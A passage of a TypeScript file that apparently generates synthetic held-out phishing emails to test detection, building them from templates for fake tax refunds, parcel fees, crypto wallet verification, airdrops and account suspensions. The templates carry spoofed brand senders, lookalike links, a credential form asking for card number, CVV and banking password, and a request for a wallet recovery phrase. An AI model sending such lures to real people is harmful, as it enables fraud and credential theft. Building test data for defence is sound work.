          `<p>A transfer of ${f.amount} to a new payee was requested from your account. If this wasn't you, review the activity now:</p><p><a href="${new URL(url).href}">${url}</a></p><p>${bank[0]} Fraud Prevention</p>`,
        ),
      };
    },
  },
  // tax-refund
  {
    kind: 'tax-refund',
    make: (f) => {
      const [agency, domain, currency] = f.random.pick([
        ['HM Revenue & Customs', 'hmrc.gov.uk', '£'],
        ['IRS', 'irs.gov', '$'],
        ['Australian Taxation Office', 'ato.gov.au', 'A$'],
      ]);
      const amount = f.amount.replace('$', currency);
      return {
        headers: [`From: "${agency}" <refunds@${domain}>`, stamp('fail', domain)],
        subject: `Tax refund notification - ${amount} pending`,
        html: html(
          `<p>After the last annual calculation of your fiscal activity we have determined that you are eligible to receive a tax refund of <b>${amount}</b>.</p><p>Reference: ${f.ref}</p><p>Please submit the tax refund request and allow 3-5 business days to process it.</p>${cta(`https://${f.registered}/refund/claim?ref=${f.ref}`, 'Claim your refund')}<p>${agency}</p>`,
        ),
      };
    },
  },
  {
    kind: 'tax-refund',
    make: (f) => ({
      headers: [`From: "Tax Refund Service" <no-reply@${f.compromised}>`, stamp('pass', f.compromised)],
      subject: 'Your refund form is attached',
      text: `You are eligible for a refund of ${f.amount}. Complete the attached form and submit it to receive your refund.\n`,
      parts: [
        file(
          'text/html',
          'Refund_Form.html',
          Buffer.from(
            `<html><body><h3>Tax Refund Form</h3><form action="https://${f.registered}/submit.php" method="post">Full name <input name="name"> Date of birth <input name="dob"> Card number <input name="cc"> Expiry <input name="exp"> CVV <input name="cvv"> Online banking password <input type="password" name="pw"><button>Submit</button></form></body></html>`,
          ),
        ),
      ],
    }),
  },
  // parcel-customs: a small fee before a parcel is released
  {
    kind: 'parcel-customs',
    make: (f) => {
      const carrier = f.random.pick(['DHL Express', 'FedEx', 'Royal Mail', 'USPS', 'Evri', 'An Post']);
      const fee = `${1 + (f.n % 3)}.${String(f.n % 100).padStart(2, '0')}`;
      return {
        headers: [`From: "${carrier}" <tracking@${f.registered}>`, stamp('none', f.registered)],
        subject: f.random.pick([
          `Your parcel is held at customs - duty of ${fee} EUR unpaid`,
          `${carrier}: delivery suspended (${f.ref})`,
        ]),
        html: html(
          `<p>Your shipment <b>${f.ref}</b> is being held at our customs facility because the import duty (<b>${fee} EUR</b>) has not been paid.</p><p>Pay within 48 hours or the parcel will be returned to the sender.</p>${cta(`https://${f.random.pick(['track', 'parcel', 'customs'])}-${f.ref.toLowerCase()}.${f.random.pick(LURE_TLDS)}/pay`, 'Pay customs duty', '#d40511')}<p>${carrier} Customer Service</p>`,
        ),
      };
    },
  },
  {
    kind: 'parcel-customs',
    make: (f) => ({
      headers: [`From: "Delivery Notice" <noreply${f.n % 40}@${f.random.pick(FREEMAIL)}>`],
      subject: 'Package delivery attempt failed',
      text: `We attempted to deliver your package today but no one was available. Reschedule delivery and confirm your address: https://${f.random.pick(['bit.ly', 'tinyurl.com', 'is.gd', 't.ly'])}/${hex(f.n, 7)}\n\nA redelivery fee of 0.${50 + (f.n % 49)} applies.`,
    }),
  },
  // crypto: a wallet to verify, an airdrop to claim
  {
    kind: 'crypto',
    make: (f) => {
      const wallet = f.random.pick(['MetaMask', 'Ledger', 'Trezor', 'Trust Wallet']);
      return {
        headers: [`From: "${wallet} Support" <support@${f.registered}>`, stamp('none', f.registered)],
        subject: `${wallet}: mandatory wallet verification before ${f.random.pick(['Nov 10', 'Nov 15', 'Dec 1'])}`,
        html: html(
          `<p>Due to new regulations all ${wallet} users must verify their wallet. Unverified wallets will be restricted.</p><p>Verification takes 2 minutes: connect your wallet or enter your Secret Recovery Phrase to confirm ownership.</p>${cta(f.hosted, 'Verify my wallet', '#f6851b')}<p>${wallet} Team</p>`,
        ),
      };
    },
  },
  {
    kind: 'crypto',
    make: (f) => {
      const token = f.random.pick(['ARB', 'ZRO', 'STRK', 'PEPE2', 'ETHFI']);
      return {
        headers: [`From: "${token} Foundation" <airdrop@${f.compromised}>`, stamp('pass', f.compromised)],
        subject: `You are eligible: ${1000 + (f.n % 9000)} $${token} airdrop`,
        html: html(
          `<p>Congratulations! Your address qualified for the $${token} community airdrop (season 2).</p><p>Claim before the snapshot closes in 72 hours. Gas fees apply.</p><p><a href="https://claim-${token.toLowerCase()}.${f.random.pick(['xyz', 'io', 'app', 'network'])}/?ref=${f.ref}">Claim ${token}</a></p>`,
        ),
      };
    },
  },
  // account-suspension: a popular service's account will be closed
  {
    kind: 'account-suspension',
    make: (f) => {
      const [brand, domain] = f.random.pick([
        ['Netflix', 'netflix.com'],
        ['Apple', 'apple.com'],
        ['PayPal', 'paypal.com'],
        ['Spotify', 'spotify.com'],
      ]);
      return {
        headers: [
          `From: "${brand}" <info@${domain}>`,
          stamp('fail', domain),
          `Reply-To: support-${f.ref.toLowerCase()}@${f.registered}`,
        ],
        subject: f.random.pick([
          `Your ${brand} account has been suspended`,
          `${brand}: we couldn't verify your billing information`,
          'Account on hold',
        ]),
        html: html(
          `<p>Hi,</p><p>We're having some trouble with your current billing information. We'll try again, but in the meantime you may want to update your payment details.</p>${cta(`https://${brand.toLowerCase()}-${f.random.pick(LURE_WORDS)}.${f.random.pick(LURE_TLDS)}/billing?${f.ref}`, 'Update account now', '#e50914')}<p>Your friends at ${brand}</p>`,
        ),
      };
    },
  },
  {
    kind: 'account-suspension',
    make: (f) => ({
      headers: [`From: "Meta for Business" <policy-review@${f.compromised}>`, stamp('pass', f.compromised)],
      subject: f.random.pick([
        'Your page has been scheduled for deletion',
        'Community Standards violation - appeal required',
      ]),
      html: html(
        `<p>Your Facebook page has been reported for violating our Community Standards and intellectual property policy. Case #${f.ref}.</p><p>If you think this is a mistake, you can submit an appeal within 24 hours. Otherwise your page and ad account will be permanently disabled.</p>${cta(`https://${f.random.pick(['business-appeal', 'meta-support', 'page-review'])}-${hex(f.n, 5)}.vercel.app/case/${f.ref}`, 'Submit appeal', '#1877f2')}<p>Meta Business Support<br>1 Hacker Way, Menlo Park, CA</p>`,
      ),
    }),
  },
];

export const UNSEEN_TEMPLATE_COUNT = TEMPLATES.length;

/** `perTemplate` messages of every template, filled from `seed`. */
export async function unseenPhishing(
  perTemplate: number,
  seed: number,
  seededRandom: (seed: number) => SeededRandom,
): Promise<UnseenMessage[]> {
  const random = seededRandom(seed);
  const out: UnseenMessage[] = [];
  let n = 20_000;
  for (const template of TEMPLATES) {
    const index = TEMPLATES.filter((t) => t.kind === template.kind).indexOf(template);
    for (let k = 0; k < perTemplate; k++) {
      n++;
      const id = `${random.pick(LURE_WORDS)}-${hex(n, 6)}`;
      const fill: Fill = {
        random,
        n,
        person: { first: random.pick(FIRST), last: random.pick(LAST) },
        executive: `${random.pick(FIRST)} ${random.pick(LAST)}`,
        compromised: random.pick(SMALL_BUSINESS),
        registered: `${random.pick(LURE_WORDS)}-${random.pick(LURE_WORDS)}${n % 1000}.${random.pick(LURE_TLDS)}`,
        hosted: random.pick(HOSTS)(id),
        phone: `+1 (8${random.pick(['00', '33', '44', '55', '66', '77', '88'])}) ${200 + random.below(800)}-${1000 + random.below(9000)}`,
        amount: `$${199 + random.below(600)}.${random.below(100).toString().padStart(2, '0')}`,
        ref: `${String.fromCharCode(65 + random.below(26))}${String.fromCharCode(65 + random.below(26))}${100_000 + random.below(900_000)}`,
      };
      out.push({
        raw: mimeMessage({ ...(await template.make(fill)), number: n }),
        kind: template.kind,
        template: `${template.kind}:${index + 1}`,
      });
    }
  }
  return out;
}
